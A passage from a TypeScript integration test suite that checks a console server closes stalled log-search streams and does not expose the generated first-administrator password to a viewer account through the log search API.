          'content-length': Buffer.byteLength(body),
        },
      });
      const response = new Promise<import('node:http').IncomingMessage>((resolve) => req.on('response', resolve));
      req.end(body);
      const res = await response;
      expect(res.statusCode).toBe(200);
      res.pause();
      // The search's deadline is 5 s in this suite: the server ends the stuck stream (closes its side of the connection)
      // then, instead of waiting for the reader for ever with the backend's read open. (A paused client sees no 'close'.)
      const connections = () => new Promise<number>((resolve) => server.getConnections((_, n) => resolve(n)));
      expect(await connections()).toBe(1);
      let open = 1;
      for (let i = 0; i < 24 && open > 0; i++) {
        await new Promise((resolve) => setTimeout(resolve, 500));
        open = await connections();
      }
      expect(open).toBe(0);
      // The backend's reader is told through its signal and closes its file on its next step.
      let files = opened();
      for (let i = 0; i < 20 && files > 0; i++) {
        await new Promise((resolve) => setTimeout(resolve, 250));
        files = opened();
      }
      expect(files).toBe(0);
      res.destroy();
    }, 20_000);
  });
});

/**
 * The console's own log (LOG_FILE, on by default under DATA_DIR/logs) is what the demo's 'console' file backend shows
 * on every demo component, to anyone who may read topologies. On a first start without ADMIN_PASSWORD, main.ts logs
 * the generated administrator password.
 */
describe("the console's own log, on a default first start", () => {
  let db: TestDatabase;
  let gateway: GatewayProcess;

  beforeAll(async () => {
    db = await createTestDatabase('sec_console_log');
    gateway = await GatewayProcess.start({ databaseUrl: db.url, env: { DEMO_DATA: 'true', LOG_LEVEL: 'info' } });
  }, 180_000);
  afterAll(async () => {
    await gateway?.dispose();
    await db?.drop();
  });

  it('does not give a viewer the first administrator’s generated password through the log search', async () => {
    const password = /with password (\S+)/.exec(gateway.log)?.[1];
    expect(password).toBeTruthy();
    const pool = new Pool({ connectionString: db.url, max: 1 });
    try {
      await pool.query(`INSERT INTO people (name, email, password_hash) VALUES ('Viewer', 'viewer@sec.local', $1)`, [await hashPassword('viewer-Pa55-4410')]);
    } finally {
      await pool.end();
    }
    const login = await fetch(`${gateway.url}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'viewer@sec.local', password: 'viewer-Pa55-4410' }),
    });
    expect(login.status).toBe(200);
    const cookies = login.headers.getSetCookie().map((c) => c.split(';')[0]);
    const cookie = cookies.join('; ');
    const csrf = cookies.find((c) => c.startsWith('console_csrf='))?.split('=')[1] ?? '';
    // The demo topology's first run (at start) gives its components the 'console' log selector.
    const components = await eventually(
      async () => (await (await fetch(`${gateway.url}/api/logs/components`, { headers: { cookie } })).json()) as { id: string; logs: { backend?: string }[] }[],
      (list) => Array.isArray(list) && list.some((c) => c.logs.some((l) => l.backend === 'console')),
      'the demo components naming the console log',
    );
    const target = components.find((c) => c.logs.some((l) => l.backend === 'console'))!;
    const res = await fetch(`${gateway.url}/api/logs`, {
      method: 'POST',
      headers: { cookie, 'x-csrf-token': csrf, 'content-type': 'application/json' },
      body: JSON.stringify({ id: target.id, start: 'now-1d', limit: 5000 }),
    });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { results: { message: string }[] };
    // The log is there (the search works) ...
    expect(body.results.some((l) => /Console listening on/.test(l.message))).toBe(true);
    // ... and the password is not.
    expect(body.results.filter((l) => l.message.includes(password!)).map((l) => l.message)).toEqual([]);
    expect(JSON.stringify(body)).not.toContain(password!);
  }, 120_000);
});
